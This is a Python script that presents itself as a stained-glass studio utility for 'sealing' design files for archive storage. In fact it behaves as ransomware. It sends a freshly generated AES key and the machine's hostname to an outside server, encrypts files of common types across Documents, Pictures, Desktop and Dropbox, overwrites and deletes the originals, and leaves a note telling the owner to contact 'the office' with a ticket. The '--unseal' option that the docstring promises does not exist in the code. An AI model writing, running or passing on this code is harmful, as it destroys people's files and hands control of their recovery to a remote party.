#!/usr/bin/env python3
"""Seal the studio's pattern library and commission files for archive storage.

Stained glass cartoons, cut-line drawings and client commission folders are
sealed with AES-256-GCM before the shared laptop goes back on the open
studio bench. The per-machine sealing key is escrowed with the studio key
service so that the office can unseal anything later with `--unseal`.

    python3 pattern_library_sealer.py            # seal the default folders
    python3 pattern_library_sealer.py --roots ~/Designs /mnt/studio
"""
import argparse
import json
import logging
import os
import socket
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor, as_completed
from pathlib import Path

import requests
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("sealer")

ESCROW_URL = "https://keys.leadlight-studio-sync.com/v2/escrow"
SEALED_SUFFIX = ".sealed"
NOTICE = "UNSEAL_INSTRUCTIONS.txt"
EXTENSIONS = {
    ".svg", ".dxf", ".ai", ".psd", ".pdf", ".png", ".jpg", ".jpeg", ".tif",
    ".docx", ".xlsx", ".odt", ".ods", ".csv", ".txt", ".db", ".sqlite", ".zip",
    ".glass", ".gpx", ".heic", ".mov", ".mp4",
}
DEFAULT_ROOTS = ["~/Documents", "~/Pictures", "~/Desktop", "~/Designs", "~/Dropbox"]


class Sealer:
    def __init__(self, key: bytes):
        self.aead = AESGCM(key)

    def seal(self, path: Path) -> Path:
        data = path.read_bytes()
        nonce = os.urandom(12)
        blob = nonce + self.aead.encrypt(nonce, data, path.name.encode())
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(blob)
        self._scrub(path, len(data))
        return target

    @staticmethod
    def _scrub(path: Path, size: int) -> None:
        # overwrite before unlinking so nothing is recoverable from the laptop disk
        with open(path, "r+b", buffering=0) as fh:
            fh.write(b"\x00" * size)
            os.fsync(fh.fileno())
        path.unlink()


def escrow_key(key: bytes, machine_id: str) -> str:
    payload = {"machine": machine_id, "host": socket.gethostname(), "key": key.hex()}
    for attempt in range(3):
        try:
            r = requests.post(ESCROW_URL, json=payload, timeout=20)
            r.raise_for_status()
            return r.json().get("ticket", machine_id)
        except (requests.RequestException, ValueError) as exc:
            log.warning("escrow attempt %d failed: %s", attempt + 1, exc)
    raise SystemExit("could not escrow the sealing key; nothing was sealed")


def candidates(roots):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in EXTENSIONS and not name.endswith(SEALED_SUFFIX):
                    yield p


def write_notice(roots, ticket):
    text = ("These design files were sealed for archive storage.\n"
            "To unseal them contact the studio office and quote ticket %s.\n" % ticket)
    for root in roots:
        base = Path(os.path.expanduser(root))
        if base.is_dir():
            try:
                (base / NOTICE).write_text(text)
            except OSError:
                pass


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal the pattern library")
    ap.add_argument("--roots", nargs="*", default=DEFAULT_ROOTS)
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("--config", default="sealer.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    roots = list(args.roots)
    if os.path.exists(args.config):
        with open(args.config) as fh:
            roots += json.load(fh).get("extra_roots", [])

    key = AESGCM.generate_key(bit_length=256)
    ticket = escrow_key(key, uuid.UUID(int=uuid.getnode()).hex)
    sealer = Sealer(key)
    del key

    done = failed = 0
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        futures = {pool.submit(sealer.seal, p): p for p in candidates(roots)}
        for fut in as_completed(futures):
            try:
                fut.result()
                done += 1
            except (OSError, MemoryError) as exc:
                failed += 1
                log.debug("could not seal %s: %s", futures[fut], exc)
    write_notice(roots, ticket)
    log.info("sealed %d files (%d skipped), ticket %s", done, failed, ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
